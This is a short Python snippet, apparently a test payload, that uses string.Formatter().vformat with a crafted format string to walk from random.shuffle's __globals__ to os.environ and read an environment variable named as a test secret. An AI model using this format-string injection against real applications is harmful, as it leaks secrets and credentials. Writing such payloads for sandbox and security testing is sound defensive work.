# string.Formatter().vformat reaching os.environ via random's module globals.
import random, string
print(string.Formatter().vformat("{0.__globals__[_os].environ[STATEK_TEST_SECRET]}", (random.shuffle,), {}))
